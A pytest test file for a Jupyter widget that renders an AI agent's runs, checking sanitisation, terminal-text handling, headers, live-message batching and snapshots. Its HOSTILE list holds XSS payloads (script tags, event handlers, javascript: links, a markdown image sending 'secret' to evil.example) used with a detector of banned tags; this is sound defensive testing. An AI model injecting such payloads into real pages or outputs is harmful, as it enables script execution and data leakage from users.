"""What of a run is shown: the static twin, the messages to the live view, and that nothing in a run can do harm."""

from __future__ import annotations

import asyncio
import base64
import json
import re
from collections.abc import Callable, Iterable, Iterator
from copy import deepcopy
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from nbclient import NotebookClient
from nbformat.v4 import new_code_cell, new_notebook

from browser.nested import gave_up, native, team, wrapped
from browser.played import DOT_PNG, TABLE, analysis, ended, long_run, play, started, turn
from cellwright.events import (
    ActionDecided,
    ActionFinished,
    ActionProposed,
    AnswerGiven,
    Compacted,
    Event,
    InputGiven,
    NoAction,
    Output,
    ReplyDelta,
    ReplyReceived,
    RunResumed,
    Told,
    ToolCalled,
    ToolProgress,
)
from cellwright.facts import SandboxFacts, Usage
from cellwright.limits import Limits
from cellwright.outputs import CellOutput, Clear, Display, Failure, MimeBundle, Stream
from cellwright.run import Run
from cellwright_extension.messages import LIVE_LIMIT, changes, snapshot
from cellwright_extension.outbox import Outbox
from cellwright_extension.render import (
    TEXT_LIMIT,
    appended,
    bundle_html,
    clip,
    code_html,
    failure_html,
    markdown_html,
    output_html,
    safe_html,
    terminal_text,
)
from cellwright_extension.tree import Tree
from cellwright_extension.view import static_html, static_text
from cellwright_extension.widget import RunView, static_bundle
from cellwright_extension.wishes import Wish
from cellwright_extension.words import header, headline

HOSTILE = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<style>body{background:url("https://evil.example")}</style>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<form action="/api/kernels"><input><button>x</button></form>',
    '<div style="position:fixed;top:0;background-image:url(https://evil.example);color:red">x</div>',
    '"><meta http-equiv=refresh content="0;url=https://evil.example">',
    "\x1b]8;;javascript:alert(1)\x1b\\x\x1b]8;;\x1b\\",
)


BANNED = set("script style iframe object embed form input button svg meta link base".split())


class Harm(HTMLParser):
    """Collects what must not be in markup that is shown."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in BANNED:
            self.found.append(tag)
        for name, value in attrs:
            text = (value or "").strip().lower()
            is_far = name == "src" and not text.startswith("data:image/")
            is_script = name == "href" and text.startswith(("javascript:", "data:", "vbscript:"))
            moves = name == "style" and ("position" in text or "url(" in text)
            if name.startswith("on") or name in {"id", "srcset", "action"} or is_far or is_script or moves:
                self.found.append(f"{tag} {name}={value}")


def hostile_run(text: str) -> list[Event]:
    """A run that holds `text` wherever a run can hold text, and an agent's run in it that does, too."""
    works = ToolProgress(step=1, name=text, text=text)
    return hostile_events(text, works, *wrapped(1, text, "k", iter(hostile_events(text, works))))


def hostile_events(text: str, *more: Event) -> list[Event]:
    """A run that holds `text` everywhere; `more` happens in its first step."""
    mimes = ("text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml", "image/png", "application/json")
    outputs: list[CellOutput | ToolCalled] = [
        Stream("stdout", text),
        Stream("stderr", text),
        ToolCalled(step=1, name="search", args=(text,), kwargs={"q": text}, result=text),
        ToolCalled(step=1, name="search", args=(), kwargs={}, error=text),
        *(Display({mime: text}, {mime: {"width": text}}) for mime in mimes),
        Failure(text, text, (text,), 1),
    ]
    return [
        started(text, model=text),
        *turn(1, text, text, *outputs, outcome="error"),
        *more,
        ReplyReceived(step=2, text=text, usage=Usage(), cost=None, seconds=0),
        ActionProposed(step=2, thought=text, code=text),
        ActionDecided(step=2, verdict="denied", by=text, code=text, reason=text),
        ActionFinished(step=2, outcome="denied", seconds=0, note=text),
        Told(step=3, text=text, by="person"),
        ReplyReceived(step=3, text=text, usage=Usage(), cost=None, seconds=0),
        InputGiven(step=3, prompt=text, value=text),
        NoAction(step=3, note=text),
        AnswerGiven(step=3, data=dict.fromkeys(mimes, text), confirmed=False),
        ended("failed", text, 3),
    ]


def messages_of(events: list[Event]) -> list[dict[str, Any]]:
    """All that the page is told, event by event."""
    tree = Tree()
    told: list[dict[str, Any]] = []
    for event in events:
        tree.add(event)
        told += [dict(message) for message in changes(tree, event)]
    return told


# ---- nothing in a run can do harm -----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_e3_nothing_hostile_stays_in_the_static_twin(text: str) -> None:
    html = static_html(Run(hostile_run(text)))
    assert Harm(html).found == []
    assert "\x1b" not in html


@pytest.mark.parametrize("text", HOSTILE)
def test_e3_nothing_hostile_stays_in_live_messages(text: str) -> None:
    events = hostile_run(text)
    told = messages_of(events) + [dict(message) for message in snapshot(Tree(Run(events)))]
    markup = [message["html"] for message in told if "html" in message]
    pieces = {event.text for event in events if isinstance(event, ReplyDelta)}
    assert len(markup) > 20
    assert [harm for html in markup for harm in Harm(html).found] == []
    values = [value for message in told for value in (*message.values(), *message.get("head", {}).values())]
    assert [value for value in values if isinstance(value, str) and "\x1b" in value and value not in pieces] == []


@pytest.mark.parametrize("text", HOSTILE)
def test_e3_terminal_text_holds_no_escapes(text: str) -> None:
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", static_text(Run(hostile_run(text))))


def test_e3_svg_is_a_picture_and_not_part_of_the_page() -> None:
    html = bundle_html({"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'})
    assert html.startswith('<img alt="picture made by the code"')
    assert "<svg" not in html


@pytest.mark.parametrize("data", ["not base64!", base64.b64encode(b"GIF or so").decode(), '"><script>', ""])
def test_e3_picture_that_is_none_is_left_to_the_next_form(data: str) -> None:
    assert "figure" in bundle_html({"image/png": data, "text/plain": "figure"})


def test_e3_class_and_style_are_cut_down_to_what_tables_need() -> None:
    html = safe_html('<table class="dataframe jp-Toolbar" id="x"><td style="color:red;position:fixed">1</td></table>')
    assert 'class="dataframe"' in html
    assert "color:red" in html
    assert "position" not in html
    assert "jp-" not in html


# ---- outputs --------------------------------------------------------------------------------------------------------


def test_e3_pandas_table_stays_a_table() -> None:
    html = bundle_html({"text/html": TABLE, "text/plain": "as text"})
    assert '<table border="1" class="dataframe">' in html
    assert 'style="text-align:right"' in html
    assert "vertical-align" not in html


@pytest.mark.parametrize(
    ("data", "shown"),
    [
        ({"text/html": "<div id='plot'></div><script>draw()</script>", "text/plain": "Figure()"}, "Figure()"),
        ({"text/markdown": "**b**", "text/plain": "b"}, "<strong>b</strong>"),
        ({"image/png": DOT_PNG, "text/plain": "figure"}, "data:image/png;base64,"),
        ({"text/latex": "$x^2$", "text/plain": "x2"}, "$x^2$"),
        ({"application/json": {"a": 1}}, "&quot;a&quot;: 1"),
        ({"text/plain": ["a\n", "<b>"]}, "a\n&lt;b&gt;"),
        ({"application/vnd.unknown": "x"}, ""),
    ],
)
def test_e3_richest_safe_form_is_shown(data: MimeBundle, shown: str) -> None:
    html = bundle_html(data)
    assert shown in html if shown else html == ""


def test_e3_picture_keeps_its_size() -> None:
    html = bundle_html({"image/png": DOT_PNG}, {"image/png": {"width": 320, "height": '1" onload="x'}})
    assert 'width="320"' in html
    assert "height" not in html


def test_e3_error_shows_message_failing_line_and_folded_traceback() -> None:
    failure = Failure("KeyError", "'<kind>'", ("\x1b[31mKeyError\x1b[39m", "  at line 2"), 2)
    html = failure_html(failure, "x = 1\ny = df['kind']\n")
    assert "<b>KeyError</b>: &#x27;&lt;kind&gt;&#x27;" in html
    assert "line 2: y = df[&#x27;kind&#x27;]" in html
    assert "<details><summary>Traceback</summary>" in html
    assert "\x1b" not in html


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("10 %\r20 %\r100 %\n", "100 %\n"),
        ("abc\rX", "Xbc"),
        ("abc\r\x1b[KX", "X"),
        ("\x1b[2Kabc\b\bX", "aXc"),
        ("one\r\ntwo\r\n", "one\ntwo\n"),
        ("\x1b[1;31mred\x1b[0m \x1b]0;title\x07done\x07", "red done"),
        ("tab\tstays", "tab\tstays"),
    ],
)
def test_e3_text_is_shown_as_a_terminal_would(text: str, shown: str) -> None:
    assert terminal_text(text) == shown


@pytest.mark.parametrize("size", [1, 2, 3, 7])
@pytest.mark.parametrize(
    "text", ["a 1 %\ra 20 %\ra 100 %\nnext\n", "\x1b[31mred\x1b[0m\nabc\b\bX\n", "plain\ntext", "x\r\ny\r\n"]
)
def test_e3_text_in_pieces_becomes_what_the_whole_text_shows(text: str, size: int) -> None:
    page = ""
    for end in range(size, len(text) + size, size):
        so_far = text[:end]
        drop, add = appended(so_far, len(so_far) - (end - size))
        page = page[: len(page) - drop] + add
    assert page == terminal_text(text)


def test_e3_endless_progress_line_costs_little() -> None:
    text = "".join(f"\r{number:6d} of 100000" for number in range(20_000))
    drop, add = appended(text, 17)
    assert drop <= 16
    assert text.endswith(add)


def test_e3_long_text_keeps_head_and_tail() -> None:
    text = "head" + "x" * 3 * TEXT_LIMIT + "tail"
    shown = clip(text)
    assert shown.startswith("head")
    assert shown.endswith("tail")
    assert len(shown) < TEXT_LIMIT + 200
    assert f"{len(text) - TEXT_LIMIT:,} characters are not shown here" in shown
    assert len(output_html(Stream("stdout", text))) < TEXT_LIMIT + 500


def test_e3_code_hides_nothing() -> None:
    html = code_html("a = 1 \x1b[8m# \u202e hidden\r\nb = 2\n")
    assert "\u241b" in html
    assert "\u202e" not in html
    assert "\r" not in html


def test_e3_raw_html_in_a_thought_is_shown_as_text() -> None:
    assert "&lt;b&gt;" in markdown_html("say <b>it</b>")


# ---- the header -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "word"),
    [
        ("success", "done"),
        ("interrupted", "stopped"),
        ("out_of_steps", "out of steps"),
        ("out_of_money", "out of budget"),
        ("failed", "failed"),
    ],
)
def test_e3_status_is_said_in_words(status: Any, word: str) -> None:
    run = Run([started(), ended(status, "Because of this.")])
    assert header(run).status == word
    assert f"{word}</b>" in static_html(run)
    assert "Because of this." in static_html(run)
    assert word in static_text(run)


@pytest.mark.parametrize(
    ("costs", "shown"),
    [
        ((0.0123, 0.001), "$0.0133 of $1.00"),
        ((0.0, 0.0), "free"),
        ((None, None), "price unknown"),
        ((0.01, None), "$0.0100 + unknown price"),
    ],
)
def test_e3_cost_is_shown_as_it_is_known(costs: tuple[float | None, ...], shown: str) -> None:
    usage = Usage(prompt=700, completion=20)
    replies = [
        ReplyReceived(step=n, text="", usage=usage, cost=cost, seconds=1) for n, cost in enumerate(costs, start=1)
    ]
    assert header(Run([started(), *replies])).spent == ("1.4k in · 40 out", shown)


def test_e3_header_says_that_code_is_not_isolated() -> None:
    marks = [mark.text for mark in header(Run([started()])).marks]
    assert marks == ["not isolated", "network"]
    assert "not isolated" in static_text(Run([started(), ended()]))


def test_e3_header_says_that_code_is_isolated() -> None:
    sandbox = SandboxFacts("child-kernel", "bubblewrap", "none", "python3", "3.11", "work")
    assert [mark.text for mark in header(Run([started(sandbox=sandbox)])).marks] == ["isolated"]


def test_e3_header_says_that_variables_are_lost() -> None:
    sandbox = SandboxFacts("child-kernel", "landlock", "none", "python3", "3.11", "work", note="No subprocesses.")
    marks = list(header(Run([started(sandbox=sandbox, state_lost=True)])).marks)
    assert [mark.text for mark in marks] == ["isolated", "variables lost"]
    assert marks[0].title == "By landlock. No subprocesses."


def test_e3_header_counts_the_step_that_is_being_written() -> None:
    events = [started(limits=Limits(steps=5)), *turn(1, "a", "b"), ReplyDelta(step=2, text="x")]
    assert header(Run(events)).steps == "step 2 of 5"
    assert header(Run([started(limits=Limits(steps=None))])).steps == "step 1"


# ---- the static twin ------------------------------------------------------------------------------------------------


def test_e4_static_text_tells_the_run() -> None:
    text = static_text(Run(analysis()))
    assert text.splitlines()[1] == (
        "done · anthropic/claude-sonnet-4-5 · 3 steps · 14.2 s · 9.1k in · 412 out · $0.0126 of $1.00 · "
        "not isolated · network"
    )
    assert "Step 2 (KeyError · 0.1 s)" in text
    assert "  | print(df.shape)" in text
    assert "  search('penguin data', limit=2) → ['a.csv'] · 0.3 s" in text
    assert "  reading 100 %" in text
    assert "50 %" not in text
    assert "  KeyError: 'kind'\n  line 1: means = df.groupby('kind')['flipper_mm'].mean()" in text
    assert text.splitlines()[-1].startswith("Answer: Gentoo: 217.2 mm on average")


def test_e4_static_html_folds_steps_and_opens_the_one_with_the_picture() -> None:
    html = static_html(Run(analysis()))
    assert html.count("<details><summary><b>Step") == 2
    assert html.count("<details open><summary><b>Step 3</b>") == 1
    assert "<strong>Gentoo</strong>" in html
    assert "font-family:monospace" in html
    assert 'class="highlight"' in html


def test_e3_static_html_has_no_dollar_that_mathjax_would_pair() -> None:
    html = static_html(Run([started("From $1 to $2"), ended("failed", "$3 and $4", 0)]))
    assert "From <span>$</span>1 to <span>$</span>2" in html
    assert html.count("$") == html.count("<span>$</span>")


def test_e3_run_that_failed_opens_its_last_step() -> None:
    events = [
        started(),
        *turn(1, "a", "b"),
        *turn(2, "c", "d", outcome="timeout"),
        ended("out_of_time", "1 s is over."),
    ]
    html = static_html(Run(events))
    assert "<details><summary><b>Step 1</b>" in html
    assert "<details open><summary><b>Step 2</b>" in html
    assert "timed out" in html


def test_e3_denied_action_shows_code_and_reason() -> None:
    events = [
        started(),
        ActionProposed(step=1, thought="I delete it.", code="os.remove('a')"),
        ActionDecided(step=1, verdict="denied", by="person", code="os.remove('a')", reason="keep that file"),
        ActionFinished(step=1, outcome="denied", seconds=0.0),
        ended("interrupted", "", 1),
    ]
    text = static_text(Run(events))
    assert "Step 1 (not run)" in text
    assert "Not run. Denied by person: keep that file" in text
    assert "Denied by person" in static_html(Run(events))


def test_e3_reply_without_code_is_shown_with_what_the_model_is_told() -> None:
    reply = ReplyReceived(step=1, text="It is **42**.", usage=Usage(), cost=0.0, seconds=1)
    run = Run([started(), reply, NoAction(step=1, note="There was no code in the reply.")])
    assert "There was no code" in static_html(run)
    assert headline(run.steps[0]) == "It is 42."


def test_e3_unconfirmed_answer_is_marked() -> None:
    answer = AnswerGiven(step=1, data={"text/markdown": "*42*", "text/plain": "42"}, confirmed=False)
    assert "Answer, in words only" in static_html(Run([started(), answer, ended()]))
    assert static_text(Run([started(), answer, ended()])).endswith("Answer, in words only: no code gave it: 42")


def test_e3_answer_can_be_left_to_the_cell() -> None:
    data = static_bundle(Run(analysis()), with_answer=False)
    assert set(data) == {"text/html", "text/plain"}
    assert "Gentoo</strong>" not in data["text/html"]
    assert "Answer" not in data["text/plain"]


def test_e3_empty_and_broken_off_runs_can_be_shown() -> None:
    events = list(analysis())
    for end in range(len(events)):
        run = Run(events[:end])
        assert static_html(run)
        assert isinstance(static_text(run), str)
        assert list(snapshot(Tree(run)))


# ---- live messages --------------------------------------------------------------------------------------------------


class Page:
    """The page's side of the messages, in few lines: what each part shows."""

    def __init__(self, inner: dict[str, Page] | None = None) -> None:
        self.shown: dict[tuple[Any, ...], Any] = {}
        self.inner: dict[str, Page] = {} if inner is None else inner
        """Pages of all inner runs, by their key; a run is told of by its caller first."""

    def take(self, message: Any) -> None:
        if run := message.get("run"):
            self.inner[run].take({name: value for name, value in message.items() if name != "run"})
            return
        match message:
            case {"op": "agent", "step": step, "key": key, "name": name, "said": said}:
                page = self.inner.setdefault(key, Page(self.inner))
                self.shown["agent", step, key] = (name, said, page.shown)
            case {"op": "call", "step": step, "index": index}:
                self.shown["call", step, index] = {**message, "seconds": 0}
            case {"op": "delta", "text": text}:
                self.shown["reply",] = self.shown.get(("reply",), "") + text
            case {"op": "head", "head": head}:
                self.shown["head",] = head | {"seconds": 0}
                if not head["running"]:
                    self.shown.pop(("reply",), None)
            case {"op": "step", "step": step}:
                self.shown.pop(("reply",), None)
                self.shown["step", step] = {**message}
            case {"op": "part", "step": step, "part": part, "html": html}:
                self.shown["part", step, part] = html
            case {"op": "line", "step": step, "part": part, "text": text}:
                self.shown.setdefault(("lines", step, part), []).append(text)
            case {"op": "output", "step": step, "index": index, "html": html}:
                self.shown["output", step, index] = html
            case {"op": "text", "step": step, "index": index, "drop": drop, "text": text}:
                before = self.shown.get(("output", step, index), "")
                self.shown["output", step, index] = before[: len(before) - drop] + text
            case {"op": "clear", "step": step}:
                self.shown = {key: value for key, value in self.shown.items() if key[:2] != ("output", step)}
            case {"op": "answer"}:
                self.shown["answer",] = {**message}
            case _:
                raise AssertionError(message)


def every_kind() -> list[Event]:
    """Events of a run in which everything happens that a view knows."""
    several: list[CellOutput | ToolCalled] = [
        Stream("stdout", "gone"),
        Clear(),
        Stream("stdout", "1 %"),
        Stream("stdout", "\r2 %\n"),
        Display({"text/plain": "before"}, display_id="d"),
        Stream("stderr", "warning"),
        Display({"text/plain": "after"}, display_id="d", is_update=True),
    ]
    return [
        *list(analysis())[:-2],
        Told(step=4, text="Use the median.", by="person"),
        Told(step=4, text="A plan is wanted.", by="planning"),
        *turn(4, "Now more.", "show()", *several),
        RunResumed(step=4, note="The sandbox was rebuilt."),
        Compacted(step=5, characters=12_000, kept=2),
        ReplyReceived(step=5, text="no code", usage=Usage(), cost=0.0, seconds=1),
        NoAction(step=5, note="no code found"),
        ReplyDelta(step=6, text="I go "),
        ReplyReceived(step=6, text="I go on", usage=Usage(), cost=0.0, seconds=1),
        ActionProposed(step=6, thought="I go on", code="old()"),
        ActionDecided(step=6, verdict="edited", by="person", code="new()", reason="better"),
        Output(step=6, output=Stream("stdout", "x")),
        InputGiven(step=6, prompt="Name?", value="Ada"),
        InputGiven(step=6, prompt="Password?", value=None),
        ActionFinished(step=6, outcome="died", seconds=1.0, note="killed", state_lost=True),
        ReplyDelta(step=7, text="and "),
        ReplyDelta(step=7, text="then"),
        ReplyReceived(step=7, text="and then", usage=Usage(), cost=0.0, seconds=1, cut=True),
        *list(analysis())[-2:],
    ]


@pytest.mark.parametrize("events", [every_kind, team, native, gave_up])
def test_e3_snapshot_shows_what_the_single_changes_have_shown(events: Callable[[], Iterable[Event]]) -> None:
    """At every moment; but that a step which only has a reply is shown as written until it is known what it is."""
    tree, live = Tree(), Page()
    for event in events():
        tree.add(event)
        for message in changes(tree, event):
            live.take(message)
        if is_between(tree):
            continue
        late = Page()
        for message in snapshot(tree):
            late.take(message)
        assert late.shown == live.shown, event


def is_between(tree: Tree) -> bool:
    """True when a step, here or in an inner run, only has its reply."""
    last = tree.run.steps[-1] if tree.run.steps else None
    here = last and last.reply and not (last.proposed or last.finished or tree.run.ended)
    return bool(here) or any(is_between(inner) for step in tree.run.steps for inner in tree.inner(step.number))


def test_e4_what_happens_beside_the_steps_is_shown() -> None:
    run = Run(every_kind())
    for shown in (static_html(run), static_text(run)):
        assert shown.index("You: Use the median.") < shown.index("Now more.") < shown.index("The sandbox was rebuilt.")
        assert "12,000 characters of older observations" in shown
        assert shown.index("Edited by person") < shown.index("You typed: Name? Ada")
        assert "You typed: Password? a line that is not shown" in shown
        assert "A plan is wanted." not in shown
    stopped = Run([started(), Told(step=1, text="Never read.", by="person"), ended("interrupted")])
    assert "You: Never read." in static_html(stopped)
    assert "You: Never read." in static_text(stopped)


def test_e3_text_of_one_stream_is_appended_and_not_sent_again() -> None:
    pieces = [Stream("stdout", f"line {number}\n") for number in range(100)]
    told = [message for message in messages_of([started(), *turn(1, "a", "b", *pieces)]) if message["op"] == "text"]
    assert {message["index"] for message in told} == {0}
    assert [message["text"] for message in told] == [piece.text for piece in pieces]


def test_e3_endless_text_is_cut_on_its_way_to_the_page() -> None:
    pieces = [Stream("stdout", "x" * 9_999 + "\n")] * 50
    told = [message for message in messages_of([started(), *turn(1, "a", "b", *pieces)]) if message["op"] == "text"]
    size = sum(len(message["text"]) for message in told)
    assert LIVE_LIMIT <= size < LIVE_LIMIT + 10_100
    assert "the journal has it" in told[-1]["text"]


TYPED = "abc\rX\nlonger line\rshort\b\b\n\x1b[31mred\x1b[0m"


def typed() -> Iterator[Event]:
    """A run whose output comes character by character."""
    yield started()
    yield from turn(1, "a", "b", *(Stream("stdout", character) for character in TYPED))


@pytest.mark.parametrize("events", [typed, every_kind, team, native, gave_up])
@pytest.mark.parametrize("size", [1, 7, 10_000])
def test_e3_messages_that_wait_are_fewer_and_show_the_same(events: Callable[[], Iterable[Event]], size: int) -> None:
    """size: so many messages wait before they are sent."""
    tree, apart, together, outbox = Tree(), Page(), Page(), Outbox()
    told = sent = 0
    for event in events():
        tree.add(event)
        for message in changes(tree, event):
            apart.take(deepcopy(message))
            outbox.put(message)
            told += 1
            if told % size == 0:
                sent += deliver(outbox, together)
    sent += deliver(outbox, together)
    assert together.shown == apart.shown
    assert sent == told if size == 1 else sent < told
    if events is typed:
        assert apart.shown["output", 1, 0] == terminal_text(TYPED)


def deliver(outbox: Outbox, page: Page) -> int:
    """How many messages had waited."""
    messages = outbox.take_all()
    for message in messages:
        page.take(message)
    return len(messages)


# ---- the widget -----------------------------------------------------------------------------------------------------


class Recorded(RunView):
    """A view that keeps what it sends. (Without a kernel there is no page to send to.)"""

    def send(self, content: Any, buffers: Any = None) -> None:
        self.__dict__.setdefault("sent", []).append(json.dumps(content))
        super().send(content, buffers)

    @property
    def batches(self) -> list[Any]:
        return [json.loads(text) for text in self.__dict__.get("sent", [])]


async def test_e3_hundred_steps_travel_in_less_than_450_kb() -> None:
    view = Recorded()
    await play(long_run(100), view.take, wait=0.0005)
    size = sum(map(len, view.__dict__["sent"]))
    print(f"100 steps: {size / 1000:.0f} KB in {len(view.batches)} messages")
    assert size < 450_000


async def test_e3_messages_are_numbered_and_at_most_fifteen_a_second() -> None:
    view = Recorded()
    loop = asyncio.get_running_loop()
    begin = loop.time()
    while loop.time() - begin < 1.0:
        view.take(ReplyDelta(step=1, text="word "))
        view.take(Output(step=1, output=Stream("stdout", "x\n")))
        await asyncio.sleep(0.001)
    await asyncio.sleep(0.1)
    assert 8 <= len(view.batches) <= 17
    assert [batch["number"] for batch in view.batches] == list(range(1, len(view.batches) + 1))


async def test_e3_the_last_tokens_are_shown_though_nothing_follows() -> None:
    view = Recorded()
    view.take(started())
    view.take(ReplyDelta(step=1, text="a"))
    view.take(ReplyDelta(step=1, text="b"))
    await asyncio.sleep(0.15)
    assert view.batches[-1]["changes"][-1] == {"op": "delta", "step": 1, "text": "ab"}


async def test_e3_the_end_is_shown_at_once() -> None:
    view = Recorded()
    view.take(started())
    view.take(ended())
    assert view.batches[-1]["changes"][-1]["head"]["status"] == "done"


def test_e3_run_can_be_shown_without_an_event_loop() -> None:
    view = Recorded()
    for event in analysis():
        view.take(event)
    page = Page()
    for batch in view.batches:
        for message in batch["changes"]:
            page.take(message)
    assert page.shown["head",]["status"] == "done"


def test_e3_page_that_joins_late_gets_a_snapshot() -> None:
    view = Recorded()
    events: list[Event] = list(analysis())
    for event in events[:30]:
        view.take(event)
    state = view.get_state()["start"]
    assert state["number"] == len(view.batches)
    assert state["snapshot"][0]["op"] == "head"
    view._handle_custom_msg({"op": "sync"}, [])
    assert view.batches[-1]["number"] == state["number"]
    assert view.batches[-1]["snapshot"][1:] == state["snapshot"][1:]


def test_e3_stop_calls_back_and_other_words_do_nothing() -> None:
    stopped: list[bool] = []
    view = RunView(on_stop=lambda: stopped.append(True))
    for content in ({"op": "stop"}, {"op": "unknown"}, {}):
        view._handle_custom_msg(content, [])
    assert stopped == [True]


def test_e3_what_a_person_asks_for_is_heard_when_it_makes_sense() -> None:
    heard: list[Wish] = []
    view = RunView(on_wish=heard.append)
    wishes = [Wish("tell", text="Faster."), Wish("insert", 1), Wish("edit", 2), Wish("undo", 3)]
    for wish in wishes:
        view._handle_custom_msg({"op": wish.what, "step": wish.step, "text": wish.text}, [])
    for nonsense in (
        {"op": "tell", "text": " "},
        {"op": "tell"},
        {"op": "undo"},
        {"op": "undo", "step": "1"},
        {"op": 1},
    ):
        view._handle_custom_msg(nonsense, [])
    assert heard == [Wish("tell", text="Faster."), Wish("insert", 1), Wish("edit", 2), Wish("undo", 3)]


def test_e4_bundle_reads_without_widgets() -> None:
    view = RunView()
    view.take(started())
    data, _ = view._repr_mimebundle_()
    assert set(data) == {"application/vnd.jupyter.widget-view+json", "text/html", "text/plain"}
    assert "penguin" in data["text/plain"]


async def test_e3_run_in_a_client_without_widgets_leaves_the_static_twin() -> None:
    """nbclient executes notebooks headless; it takes comm messages and shows nothing."""
    cell = f"""
import sys
sys.path.insert(0, {str(Path(__file__).parent)!r})
from browser.played import *
from cellwright_extension.widget import RunView, display_view, finish
view = RunView()
shown = display_view(view)
await play(analysis(), view.take, 0.001)
finish(shown, view.run)
"""
    notebook = new_notebook(cells=[new_code_cell(cell)])  # type: ignore[no-untyped-call]
    await NotebookClient(notebook, kernel_name="python3", store_widget_state=False).async_execute()
    (output,) = notebook.cells[0].outputs
    assert set(output.data) == {"text/html", "text/plain"}
    assert "Gentoo" in output.data["text/plain"]


def test_e3_script_and_style_of_the_view_are_small() -> None:
    size = len(RunView._esm.encode()) + len(RunView._css.encode())
    assert size <= 25_000
